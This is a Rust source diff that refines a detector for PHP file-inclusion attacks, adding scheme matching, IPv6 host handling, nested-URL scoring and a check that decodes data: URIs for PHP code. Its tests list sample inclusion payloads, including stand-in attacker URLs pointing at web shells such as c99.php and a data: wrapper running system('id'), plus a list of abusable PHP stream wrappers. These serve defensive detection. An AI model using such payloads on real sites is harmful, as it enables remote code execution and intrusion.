@@ -70,21 +70,12 @@ fn urls(text: &str) -> impl Iterator<Item = Url<'_>> {
         .starts_with("//")
         .then_some((lead, lead + 2, "http"));
     let schemes = memchr::memmem::find_iter(b, b"://").filter_map(move |i| {
-        let start = (0..i)
-            .rev()
-            .take(8)
-            .take_while(|&j| b[j].is_ascii_alphabetic())
-            .last()?;
-        let scheme = &text[start..i];
-        let s = scheme.to_ascii_lowercase();
-        let s: &'static str = match s.as_str() {
-            "http" => "http",
-            "https" => "https",
-            "ftp" => "ftp",
-            "ftps" => "ftps",
-            "smb" => "smb",
-            _ => return None,
-        };
+        // The scheme is the longest known suffix of the letters before `://`, so a name
+        // glued to it (`?pagehttp://`, from a lost `=`) still counts.
+        let s: &'static str = ["https", "http", "ftps", "ftp", "smb"]
+            .into_iter()
+            .find(|s| i >= s.len() && b[i - s.len()..i].eq_ignore_ascii_case(s.as_bytes()))?;
+        let start = i - s.len();
         Some((start, i + 3, s))
     });
     relative
@@ -99,12 +90,17 @@ fn urls(text: &str) -> impl Iterator<Item = Url<'_>> {
                 .unwrap_or(rest.len());
             let auth = &rest[..auth_end];
             let host = auth.rfind('@').map_or(auth, |p| &auth[p + 1..]);
-            let host = host.split(':').next().unwrap_or(host);
+            let host = if host.starts_with('[') {
+                host.find(']').map_or(host, |p| &host[..=p])
+            } else {
+                host.split(':').next().unwrap_or(host)
+            };
             let after = &rest[auth_end..];
+            let ends_url = |c: char| matches!(c, '"' | '\'' | '<' | '>') || c.is_whitespace();
             let path_end = after
-                .find(|c: char| matches!(c, '?' | '#' | '&' | '\0' | '%') || c.is_whitespace())
+                .find(|c: char| matches!(c, '?' | '#' | '&' | '\0' | '%') || ends_url(c))
                 .unwrap_or(after.len());
-            let tail_end = after.find(char::is_whitespace).unwrap_or(after.len());
+            let tail_end = after.find(ends_url).unwrap_or(after.len());
             Some(Url {
                 scheme: scheme.to_string(),
                 at,
@@ -123,10 +119,17 @@ fn judge(text: &str, u: &Url) -> Option<(f32, String)> {
     let page = PAGE_EXT.contains(&ext.as_str());
     let textish = TEXT_EXT.contains(&ext.as_str());
     let cut = cut_marker(u.tail);
-    let ip = is_ipv4(u.host);
-    // The URL sits as a parameter value inside another URL or path: `...?x=http://...`.
+    let ip = is_ipv4(u.host) || u.host.starts_with('[');
+    // The URL sits in the query of another URL or path (`/x.php?path=http://...`); when that
+    // outer resource is itself a script, the parameter is what it includes.
     let before = &text[..u.at];
-    let nested = before.ends_with('=') && before.contains('?');
+    let nested = before.contains('?');
+    let outer_script = nested && {
+        let outer_path = before.split('?').next().unwrap_or("");
+        // A directory (`/admin/?x=`) is served by its index script.
+        outer_path.ends_with('/') || PAGE_EXT.contains(&extension(outer_path).as_str())
+    };
+    let standalone = before.trim().is_empty();
     let what = if page { "script" } else { "text" };
     let (score, why) = if (page || textish) && cut.is_some() {
         (
@@ -138,15 +141,20 @@ fn judge(text: &str, u: &Url) -> Option<(f32, String)> {
         )
     } else if (page || textish) && ip {
         (0.8, format!("{what} resource .{ext} on a bare IP host"))
-    } else if (page || textish) && nested {
+    } else if (page || textish) && outer_script {
         (
             0.8,
-            format!("URL of a {what} resource .{ext} passed as a parameter of another URL"),
+            format!("URL of a {what} resource .{ext} passed to a script as a parameter"),
         )
-    } else if textish {
+    } else if textish && (standalone || outer_script) {
         (
             0.6,
             format!("URL of a text resource .{ext} (served as source, not run)"),
+        )
+    } else if textish {
+        (
+            0.45,
+            format!("URL of a text resource .{ext} inside other text"),
         )
     } else if matches!(u.scheme.as_str(), "ftp" | "ftps" | "smb")
         && !u.path.trim_matches('/').is_empty()
@@ -154,8 +162,8 @@ fn judge(text: &str, u: &Url) -> Option<(f32, String)> {
         (0.55, format!("{} URL of a file for inclusion", u.scheme))
     } else if page {
         (0.35, format!("URL of a .{ext} page"))
-    } else if nested {
-        (0.4, "URL passed as a parameter of another URL".to_string())
+    } else if outer_script {
+        (0.45, "URL passed to a script as a parameter".to_string())
     } else {
         return None;
     };
@@ -202,8 +210,6 @@ fn wrapper(text: &str) -> Option<(f32, String)> {
     for (w, score) in [
         ("php://input", 0.9),
         ("php://filter", 0.8),
-        ("data://text/plain", 0.9),
-        ("data:text/plain;base64,", 0.8),
         ("expect://", 0.9),
         ("phar://", 0.8),
         ("zip://", 0.75),
@@ -213,7 +219,35 @@ fn wrapper(text: &str) -> Option<(f32, String)> {
             return Some((score, format!("PHP stream wrapper {w}")));
         }
     }
-    None
+    data_code(text)
+}
+
+/// `data://text/plain;base64,...` or `data:text/plain,...` whose payload is PHP code: the
+/// wrapper `include` runs. Other data URIs (images in rich text) are not inclusion.
+fn data_code(text: &str) -> Option<(f32, String)> {
+    use base64::Engine as _;
+    let lower = text.to_ascii_lowercase();
+    let p = lower.find("data:")?;
+    let rest = lower[p + 5..].trim_start_matches('/');
+    if !rest.starts_with("text/plain") && !rest.starts_with("application/x-httpd-php") {
+        return None;
+    }
+    let comma = rest.find(',')?;
+    let payload_at = text.len() - rest.len() + comma + 1;
+    let payload = text[payload_at..].split_whitespace().next().unwrap_or("");
+    let code = if rest[..comma].ends_with(";base64") {
+        let bytes = base64::engine::general_purpose::STANDARD
+            .decode(
+                payload.trim_end_matches('=').to_string()
+                    + &"=".repeat((4 - payload.trim_end_matches('=').len() % 4) % 4),
+            )
+            .ok()?;
+        String::from_utf8_lossy(&bytes).to_ascii_lowercase()
+    } else {
+        payload.to_ascii_lowercase()
+    };
+    (code.contains("<?php") || code.contains("<?=") || code.contains("<? "))
+        .then(|| (0.9, "data: wrapper carrying PHP code".to_string()))
 }
 
 /// `\\host\share\path`: a Windows UNC path, fetched over SMB by `include`.
@@ -274,6 +308,10 @@ mod tests {
             "expect://id",
             "//evil.example/shell.txt?",
             "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
+            "data://text/plain,<?php system('id'); ?>",
+            "https://[2001:db8::1]/gecko.php",
+            "<a probe=\"http://198.51.100.7/crash.php\"></a>",
+            "/index.php?pagehttp://attacker.test/c99.php",
         ] {
             assert!(flagged(s), "{s}");
         }
@@ -294,6 +332,8 @@ mod tests {
             "C:\\Users\\me\\notes.txt",
             "report.txt",
             "\\\\fileserver\\docs\\report.pdf",
+            "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
+            "https://www.google.com/url?sa=t&url=http://example.org/files/notes.txt&ei=x",
         ] {
             assert!(!flagged(s), "{s}");
         }
